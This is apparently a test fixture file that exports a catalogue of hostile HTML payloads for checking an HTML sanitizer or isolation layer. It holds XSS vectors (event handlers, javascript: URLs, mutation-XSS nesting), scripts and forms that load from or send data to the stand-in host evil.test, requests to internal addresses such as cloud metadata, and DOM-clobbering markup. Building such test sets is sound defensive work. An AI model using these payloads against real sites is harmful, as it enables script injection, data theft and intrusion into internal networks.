// Hostile markup of our own making, a bounded sample: each of the ways in, once or twice. The kits of ../shared have
// thousands more (`make bench-walls`).

const ODD = ["<svg>", "<math><mtext>", "<form>", "<table><tr><td>", "<noscript>", "<select>", "<template>", "<xmp>", "<title>", "<textarea>"];

const RUNS = [
  "<script>alert(1)</script>",
  "<script src=http://evil.test/run.js></script>",
  "<img src=nowhere onerror=alert(1)>",
  "<svg onload=alert(1)></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<body onload=alert(1) onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)><summary>s</summary></details>",
  "<input autofocus onfocus=alert(1)>",
  "<p onclick=alert(1) onmouseover=alert(1)>here</p>",
  "<a href='javascript:alert(1)'>link</a>",
  "<a href='&#1;java&Tab;script&colon;alert(1)'>link</a>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src='javascript:parent.alert(1)'></iframe>",
  "<object data='data:text/html,<script>parent.alert(1)</script>'></object>",
  "<embed src='javascript:alert(1)'>",
  "<video><source onerror=alert(1) src=x></video>",
  "<math href='javascript:alert(1)'><mi>x</mi></math>",
  "<script>document.title = 'changed'; top.document.title = 'changed'</script>",
  "<script>window.open('http://evil.test/opened')</script>",
  "<marquee onstart=alert(1)>m</marquee>",
  "<p title='</p><img src=x onerror=alert(1)>'>quoted</p>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'></style></svg>",
  ...ODD.map((opened) => `${opened}<a title='</title></textarea></xmp></noscript></template><img src=x onerror=alert(1)>'>`),
];

const ASKS = [
  "<link rel=stylesheet href=http://evil.test/link>",
  "<link rel=preconnect href=http://evil.test/><link rel=dns-prefetch href=http://evil.test/><link rel=prefetch href=http://evil.test/fetched>",
  "<style>@import url(http://evil.test/import); p { background: url(http://evil.test/background) }</style><p>p",
  "<p style='background: url(http://evil.test/inline)'>p",
  "<table background=http://evil.test/table><tr><td background=http://evil.test/cell>t</table>",
  "<iframe src=http://evil.test/frame></iframe>",
  "<frameset><frame src=http://evil.test/frameset></frameset>",
  "<object data=http://evil.test/object></object><embed src=http://evil.test/embed>",
  "<video src=http://evil.test/film autoplay poster=http://evil.test/poster></video><audio src=http://evil.test/sound autoplay></audio>",
  "<svg><image href=http://evil.test/drawn width=9 height=9 /><use href='http://evil.test/used#a'/></svg>",
  "<meta http-equiv=refresh content='0; url=http://evil.test/refreshed'>",
  "<meta http-equiv=refresh content='0; url=/top?again'>",
  "<base href=http://evil.test/><a href=relative>link</a>",
  "<input type=image src=http://evil.test/input>",
  "<img srcset='http://127.0.0.1:9/a 1x, http://192.168.1.1/b 2x' src='data:,'>",
  "<img src=http://169.254.169.254/latest/><img src='http://[::1]/'><img src=//10.0.0.1/x>",
  "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"http://evil.test/rules\"]}]}</script>",
];

const SENDS = [
  "<form action=http://evil.test/sent method=post><input name=a value=b><button>go</button></form>",
  "<form id=f action=http://evil.test/sent></form><button form=f formaction=http://evil.test/other>go</button>",
  "<a href=https://good.example ping=http://evil.test/ping>link</a>",
  "<form action='javascript:alert(1)'><input type=submit></form>",
  "<isindex action=http://evil.test/index>",
];

const LEAVES = [
  "<div style='position:fixed;inset:0;background:red;z-index:9999'>over all</div>",
  "<style>#probe { display: none } div { position: absolute; top: 0 }</style><div>over</div>",
  "<dialog open style='position:fixed;inset:0'>over</dialog>",
  "<div popover id=pop>over</div><button popovertarget=pop>show</button>",
  "</main></div></body></html><h1 style='position:fixed;top:0'>outside</h1>",
  "<p slot=a is=x-y>made by a script</p>",
  "<a href=http://evil.test/ target=_top>link</a>",
  "<a href=http://good.example@evil.test/>link</a>",
  "<a href=http://127.0.0.1:9222/json>link</a><a href=http://localhost/>link</a><a href=http://printer.local/>link</a>",
  "<a href=tauri://localhost/>link</a><a href=file:///etc/passwd>link</a><a href=smb://10.0.0.1/share>link</a>",
];

const NAMES = ["body", "head", "querySelector", "addEventListener", "documentElement", "getElementById", "__TAURI__", "config", "probe"];
const STANDS_IN = NAMES.flatMap((name) => [
  `<img name=${name} id=${name} src=image:a>`,
  `<form name=${name} id=${name}><input name=attributes><input name=remove></form><a id=${name} href=https://good.example>a</a>`,
]);

export const PAYLOADS = [...RUNS, ...ASKS, ...SENDS, ...LEAVES, ...STANDS_IN].map((html, place) => ({ id: `own-${place}`, html }));
